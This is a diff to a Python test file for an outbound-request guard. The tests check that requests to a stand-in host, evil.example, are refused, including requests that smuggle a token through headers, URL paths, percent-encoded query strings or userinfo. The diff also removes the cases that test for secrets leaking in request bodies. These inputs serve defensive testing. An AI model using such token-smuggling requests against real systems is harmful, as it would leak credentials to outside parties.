@@ -162,21 +162,31 @@ def test_no_trick_of_an_address_brings_a_token_elsewhere(url: str, network: Sile
 
 
 @pytest.mark.parametrize(
+    ("method", "body"), [("POST", b""), ("PUT", b""), ("DELETE", b""), ("GET", b"a customer's words")]
+)
+def test_nothing_is_written_at_somebody_elses_host_and_no_words_go_there(
+    method: str, body: bytes, network: Silent
+) -> None:
+    with pytest.raises(Refused):
+        OwnHosts(network, (OWN,), HELD).request(method, "https://evil.example/", headers={}, body=body)
+
+    assert network.urls == []
+
+
+@pytest.mark.parametrize(
     "more",
     [
         {"headers": {"Cookie": "a=b"}},
         {"headers": {"X-Api-Key": "short"}},
         {"headers": {"accept": TOKEN}},
-        {"headers": {}, "body": b'{"access_token":"' + TOKEN.encode() + b'"}'},
-        {"headers": {}, "body": SECRET.encode()},
         {"headers": {}, "url": f"https://evil.example/bot{TOKEN}/getFile"},
         {"headers": {}, "url": f"https://evil.example/?t={TOKEN.replace('-', '%2D')}"},
         {"headers": {}, "url": f"https://{TOKEN}@evil.example/"},
     ],
 )
-def test_a_secret_goes_nowhere_else_in_a_header_an_address_or_a_body(more: dict[str, Any], network: Silent) -> None:
+def test_a_secret_goes_nowhere_else_in_a_header_or_an_address(more: dict[str, Any], network: Silent) -> None:
     with pytest.raises(Refused):
-        OwnHosts(network, (OWN,), HELD).request("POST", **{"url": "https://evil.example/", **more})
+        OwnHosts(network, (OWN,), HELD).request("GET", **{"url": "https://evil.example/", **more})
 
     assert network.urls == []
 
